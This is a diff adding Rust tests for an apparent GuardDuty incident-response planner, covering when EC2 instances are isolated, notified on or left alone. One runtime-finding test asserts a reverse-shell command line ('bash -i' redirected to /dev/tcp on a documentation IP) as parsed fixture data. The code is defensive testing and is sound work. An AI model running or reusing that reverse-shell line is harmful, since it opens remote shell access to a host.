@@ -550,3 +550,135 @@ fn forged_cloudtrail_events_are_refused() {
     let err = parse_value(disagree).expect_err("refused");
     assert!(err.to_string().contains("recipientAccountId"), "{err}");
 }
+
+const EC2_SEQUENCE: &str = "guardduty/attack-sequence-ec2-instance-group.json";
+
+fn instances_with(plan: &Plan, action: &str) -> Vec<String> {
+    plan.actions
+        .iter()
+        .filter(|a| a.step.name() == action)
+        .filter_map(|a| a.step.instance_id().map(|i| i.to_string()))
+        .collect()
+}
+
+#[test]
+fn an_ec2_instance_group_sequence_contains_every_instance_it_names_once() {
+    let plan = plan(sample(EC2_SEQUENCE));
+    assert_eq!(plan.decision, Decision::Contain);
+    // One directly, two through the Auto Scaling group (one of them as an ARN), the first listed twice more.
+    let expected = ["i-0abc1234def567890", "i-0abc1234def567891", "i-0abc1234def567892"];
+    assert_eq!(instances_with(&plan, "isolate_instance"), expected);
+    for step in &CONTAIN[..CONTAIN.len() - 1] {
+        assert_eq!(instances_with(&plan, step), expected, "{step}");
+    }
+    assert_eq!(action_names(&plan).iter().filter(|a| **a == "notify").count(), 1, "one notification");
+    assert!(plan
+        .reasons
+        .iter()
+        .any(|r| r.contains("i-0abc1234def567892 is named through AUTOSCALING_AUTO_SCALING_GROUP")));
+    assert_eq!(plan.severity, crate::incident::SeverityLabel::Critical);
+}
+
+#[test]
+fn sample_archived_and_low_severity_sequences_never_contain() {
+    let sample_flag = json!({"value": "{\"sample\":true}", "type": "default"});
+    let cases = [
+        ("sample", edited(EC2_SEQUENCE, &[("/detail/service/additionalInfo", sample_flag)]), Decision::Notify),
+        ("archived", edited(EC2_SEQUENCE, &[("/detail/service/archived", json!(true))]), Decision::Ignore),
+        ("below the threshold", edited(EC2_SEQUENCE, &[("/detail/severity", json!(6.5))]), Decision::Notify),
+    ];
+    for (what, doc, decision) in cases {
+        let plan = plan(doc);
+        assert_eq!(plan.decision, decision, "{what}");
+        assert!(instances_with(&plan, "isolate_instance").is_empty(), "{what}");
+    }
+}
+
+#[test]
+fn a_full_group_list_is_named_as_possibly_truncated() {
+    let uids: Vec<String> = (0..25).map(|n| format!("i-0abc1234def5679{n:02}")).collect();
+    let doc = edited(
+        EC2_SEQUENCE,
+        &[(
+            "/detail/service/detection/sequence/resources/1/data/autoscalingAutoScalingGroup/ec2InstanceUids",
+            json!(uids),
+        )],
+    );
+    let plan = plan(doc);
+    assert_eq!(instances_with(&plan, "isolate_instance").len(), 26);
+    assert!(plan
+        .reasons
+        .iter()
+        .any(|r| r.contains("AUTOSCALING_AUTO_SCALING_GROUP prod-web") && r.contains("may have more")));
+}
+
+#[test]
+fn instances_of_another_account_or_unparsable_uids_are_named_and_never_acted_on() {
+    let doc = edited(
+        EC2_SEQUENCE,
+        &[
+            ("/detail/service/detection/sequence/resources/0/accountId", json!("210987654321")),
+            (
+                "/detail/service/detection/sequence/resources/2/data/iamInstanceProfile/ec2InstanceUids",
+                json!(["web-server-7"]),
+            ),
+        ],
+    );
+    let plan = plan(doc);
+    // i-…890 is still named by the Auto Scaling group of this account.
+    assert_eq!(
+        instances_with(&plan, "isolate_instance"),
+        ["i-0abc1234def567891", "i-0abc1234def567892", "i-0abc1234def567890"]
+    );
+    let refused = plan.reasons.iter().find(|r| r.starts_with("not acted on")).expect("named");
+    assert!(refused.contains("i-0abc1234def567890 (in another account or region)") && refused.contains("web-server-7"));
+}
+
+#[test]
+fn other_sequences_are_notified_and_container_hosts_are_never_isolated() {
+    let ecs = plan(sample("guardduty/attack-sequence-ecs-cluster.json"));
+    assert_eq!(ecs.decision, Decision::Notify);
+    assert_eq!(action_names(&ecs), ["notify"]);
+    assert!(ecs.reasons[0].contains("2 EC2 instance(s) appear only as container hosts"));
+    for other in [
+        "AttackSequence:EKS/CompromisedCluster",
+        "AttackSequence:IAM/CompromisedCredentials",
+        "AttackSequence:S3/CompromisedData",
+    ] {
+        // Even an IAM or S3 sequence that lists instances in a group is not an instance-group sequence.
+        let notified = plan(edited(EC2_SEQUENCE, &[("/detail/type", json!(other))]));
+        assert_eq!(notified.decision, Decision::Notify, "{other}");
+        assert!(instances_with(&notified, "isolate_instance").is_empty(), "{other}");
+    }
+}
+
+#[test]
+fn a_sequence_without_its_sequence_is_refused_naming_the_field() {
+    let mut doc = sample(EC2_SEQUENCE);
+    doc["detail"]["service"].as_object_mut().expect("service").remove("detection");
+    let error = parse_value(doc).expect_err("refused").to_string();
+    assert!(error.contains("detail.service.detection.sequence"), "{error}");
+}
+
+#[test]
+fn runtime_findings_on_ec2_are_decided_like_other_instance_findings() {
+    let plan = plan(sample("guardduty/runtime-ec2-reverse-shell.json"));
+    assert_eq!(plan.decision, Decision::Contain);
+    assert_eq!(action_names(&plan), CONTAIN);
+    let crate::incident::IncidentKind::Guardduty(f) = &plan.incident.kind else { panic!("guardduty") };
+    let process = f.process.as_ref().expect("runtime details");
+    assert_eq!(process.name.as_deref(), Some("bash"));
+    assert_eq!(process.command_line.as_deref(), Some("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
+    assert_eq!(f.feature.as_deref(), Some("RuntimeMonitoring"));
+}
+
+#[test]
+fn runtime_findings_on_ecs_are_notified_with_cluster_task_and_image() {
+    let plan = plan(sample("guardduty/runtime-ecs-cryptominer.json"));
+    assert_eq!(plan.decision, Decision::Notify);
+    assert!(plan.reasons[0].contains("ECS workload"));
+    let crate::incident::IncidentKind::Guardduty(f) = &plan.incident.kind else { panic!("guardduty") };
+    let workload = f.workload.as_ref().expect("workload");
+    assert_eq!(workload.cluster.as_deref(), Some("arn:aws:ecs:us-east-1:123456789012:cluster/prod-cluster"));
+    assert_eq!(workload.containers[0].1, "123456789012.dkr.ecr.us-east-1.amazonaws.com/web:2026.11.20");
+}
